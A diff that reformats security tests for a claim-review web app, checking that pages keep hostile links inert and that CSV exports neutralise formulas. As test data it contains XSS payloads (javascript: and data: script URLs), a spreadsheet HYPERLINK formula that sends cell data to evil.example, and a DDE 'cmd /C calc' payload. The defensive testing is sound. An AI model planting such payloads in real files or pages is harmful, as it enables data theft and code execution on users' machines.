@@ -84,8 +84,14 @@ def hostile_site(tmp_path):
     docs.mkdir()
     (docs / "hostile.txt").write_text(HOSTILE_DOC, encoding="utf-8")
     build_index([docs], tmp_path / "ix")
-    app = create_app({"INDEX_DIR": str(tmp_path / "ix"), "DATABASE_URL": f"sqlite:///{tmp_path / 'r.sqlite3'}",
-                      "SECRET_KEY": "injection-test"}, instance_path=str(tmp_path / "instance"))
+    app = create_app(
+        {
+            "INDEX_DIR": str(tmp_path / "ix"),
+            "DATABASE_URL": f"sqlite:///{tmp_path / 'r.sqlite3'}",
+            "SECRET_KEY": "injection-test",
+        },
+        instance_path=str(tmp_path / "instance"),
+    )
     server = make_server("127.0.0.1", 0, app, threaded=True)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
@@ -150,16 +156,35 @@ def test_reviewer_text_and_document_text_never_run(hostile_site, page: Page):
 
     # past validation, straight into the database: the page must still not make it a live link
     with store.write() as conn:
-        conn.execute(claims.update().where(claims.c.id == second.id).values(
-            status="inaccurate", decided_by="alice", decided_at=datetime.now(UTC), version=claims.c.version + 1,
-            decision_auto_status=second.auto_status, sources=[
-                {"publisher": "Stored " + HOSTILE, "title": "Stored source", "url": "javascript:window.pwned='db'"},
-                {"publisher": "Data", "title": "Data URL", "url": "data:text/html,<script>parent.pwned=1</script>"},
-            ]))
+        conn.execute(
+            claims.update()
+            .where(claims.c.id == second.id)
+            .values(
+                status="inaccurate",
+                decided_by="alice",
+                decided_at=datetime.now(UTC),
+                version=claims.c.version + 1,
+                decision_auto_status=second.auto_status,
+                sources=[
+                    {"publisher": "Stored " + HOSTILE, "title": "Stored source", "url": "javascript:window.pwned='db'"},
+                    {"publisher": "Data", "title": "Data URL", "url": "data:text/html,<script>parent.pwned=1</script>"},
+                ],
+            )
+        )
 
-    pages = [f"/review/claims/{first.id}", f"/review/claims/{second.id}", "/review", "/review?state=decided",
-             "/review/audit", f"/review/audit?claim={first.id}", "/?q=miscarriage", "/?q=insemination",
-             f"/doc/{first.doc_id}", "/logout", f"/?q={quote(HOSTILE)}"]
+    pages = [
+        f"/review/claims/{first.id}",
+        f"/review/claims/{second.id}",
+        "/review",
+        "/review?state=decided",
+        "/review/audit",
+        f"/review/audit?claim={first.id}",
+        "/?q=miscarriage",
+        "/?q=insemination",
+        f"/doc/{first.doc_id}",
+        "/logout",
+        f"/?q={quote(HOSTILE)}",
+    ]
     for path in pages:
         page.goto(base + path)
         _assert_inert(page, path, errors)
@@ -203,8 +228,10 @@ def test_csv_exports_neutralise_formulas_in_every_field(tmp_path):
     docs = tmp_path / "docs"
     docs.mkdir()
     (docs / "formula.txt").write_text(
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Miscarriage facts\")\n\n"
-        "-2+3 Stress causes miscarriage. @SUM(1+1) Lifting heavy things causes miscarriage.\n", encoding="utf-8")
+        '=HYPERLINK("http://evil.example/?"&A1,"Miscarriage facts")\n\n'
+        "-2+3 Stress causes miscarriage. @SUM(1+1) Lifting heavy things causes miscarriage.\n",
+        encoding="utf-8",
+    )
     build_index([docs], tmp_path / "ix")
     store = ReviewStore.open(f"sqlite:///{tmp_path / 'r.sqlite3'}")
     try:
@@ -216,10 +243,19 @@ def test_csv_exports_neutralise_formulas_in_every_field(tmp_path):
         for start in FORMULA_STARTS:  # each start character in every reviewer-written field
             for claim in find_claims(store, ClaimQuery(state="all", queue="all")).claims:
                 source = {"publisher": f"{start}cmd|' /C calc'!A0", "title": "+title", "url": "https://example.org/"}
-                decide(store, claim.id, alice, Decision(
-                    "supported" if claim.status != "supported" else "unsupported", claim.version,
-                    note=f"{start}1+1 {claim.id}", reason=f"{start}HYPERLINK(\"http://evil\")",
-                    correction=f"{start}SUM(A1:A9)", sources=(source,)))
+                decide(
+                    store,
+                    claim.id,
+                    alice,
+                    Decision(
+                        "supported" if claim.status != "supported" else "unsupported",
+                        claim.version,
+                        note=f"{start}1+1 {claim.id}",
+                        reason=f'{start}HYPERLINK("http://evil")',
+                        correction=f"{start}SUM(A1:A9)",
+                        sources=(source,),
+                    ),
+                )
             exported = claims_csv(store)
             assert "'=HYPERLINK" in exported  # the title is kept, as text
             cells += _assert_no_formula(exported) + _assert_no_formula(audit_csv(store))
@@ -229,15 +265,21 @@ def test_csv_exports_neutralise_formulas_in_every_field(tmp_path):
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(note=st.text(min_size=1, max_size=80).filter(str.strip),
-       start=st.sampled_from(FORMULA_STARTS + ("", " ", "'", "\n")))
+@given(
+    note=st.text(min_size=1, max_size=80).filter(str.strip),
+    start=st.sampled_from(FORMULA_STARTS + ("", " ", "'", "\n")),
+)
 def test_any_note_is_exported_as_text(synced_once, note, start):
     """Whatever a reviewer writes, the CSV cell is the note itself (prefixed with ' when it could be a formula)."""
     store, claim_id, reviewer = synced_once
     note = start + note
     current = get_claim(store, claim_id, with_history=False)
-    decide(store, claim_id, reviewer, Decision("unverified" if current.status != "unverified" else "supported",
-                                               current.version, note=note))
+    decide(
+        store,
+        claim_id,
+        reviewer,
+        Decision("unverified" if current.status != "unverified" else "supported", current.version, note=note),
+    )
     rows = list(csv.DictReader(io.StringIO(claims_csv(store))))
     cell = next(r for r in rows if r["id"] == claim_id)["note"]
     assert cell[:1] not in FORMULA_STARTS
